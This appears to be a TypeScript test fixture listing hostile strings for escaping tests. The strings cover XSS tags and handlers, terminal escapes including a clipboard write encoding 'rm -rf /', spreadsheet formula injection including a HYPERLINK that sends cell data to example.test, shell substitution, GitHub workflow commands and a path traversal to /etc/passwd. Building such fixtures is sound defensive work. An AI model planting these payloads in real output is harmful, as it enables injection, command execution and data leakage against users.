/** Texts that would act where they are shown, if they were not escaped: answers, captions, names and paths can be any of them. */

export const hostileStrings: Readonly<Record<string, string>> = {
  "a script": `</script><script>document.title="taken"</script>`,
  "an image with a handler": `"><img src=x onerror="document.title='taken';alert(1)">`,
  "an SVG with a handler": `<svg onload="alert(1)"><a href="javascript:alert(1)">x</a></svg>`,
  "a form and a style": `<form action=//example.test><style>*{background:url(//example.test/a)}</style><base href=//example.test>`,
  "the end of a comment and of CDATA": `--> ]]> <!-- &amp; &#x3c; '"`,
  "a colour of the terminal": "\u001b[31mred\u001b[2J\u001b[1;1Hmoved",
  "a link of the terminal": "\u001b]8;;https://example.test\u0007here\u001b]8;;\u0007",
  "the clipboard of the terminal": "\u001b]52;c;cm0gLXJmIC8K\u0007",
  "controls of eight bits": "\u009b31mred\u009d0;title\u009c",
  "a line that is overwritten": "passed\rfailed\b\b\bmended\u0007",
  "text from right to left": "\u202egnp.exe\u202c \u2066a\u2069 \u200f \u061c",
  "marks of no width": "pass\u200bed\ufeff\u2060",
  "a formula": `=HYPERLINK("http://example.test/?"&A1,"x")`,
  "a formula with a sign": `+1+cmd|' /C calc'!A0`,
  "a formula with an at": "@SUM(A1:A9)",
  "a formula after a tab": "\t=1+1",
  Markdown: "![x](http://example.test/a.png) [y](javascript:alert(1)) **b** `c` | d | @someone #1 ~~e~~",
  "a heading and a table": "# heading\n\n| a |\n| - |\n| b |",
  YAML: "key: [*anchor, &b !!js/function 'x'] # comment\n- item\n? |\n  text",
  "a shell's command": `$(touch taken) \`touch taken\`; touch taken & | > taken ' " \\ !! ~ * ? {a,b}`,
  "a command of GitHub": "::error title=taken::it failed%0A::set-output name=a::b",
  "a command of GitHub on a line": "fine\n::add-mask::e\n  ::stop-commands::x\n##[error]y",
  "percent signs": "%0A%0D%25%3A%2C %s %n",
  "half a character": "\ud800 and \udfff",
  "what XML forbids": "a\u0000b\u0001c\u000bd\ufffee\uffff",
  "a path out": "../../../etc/passwd",
};

/** Characters that a terminal acts on, or that reorder what is around them; not tab and newline. */
export const terminalControls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
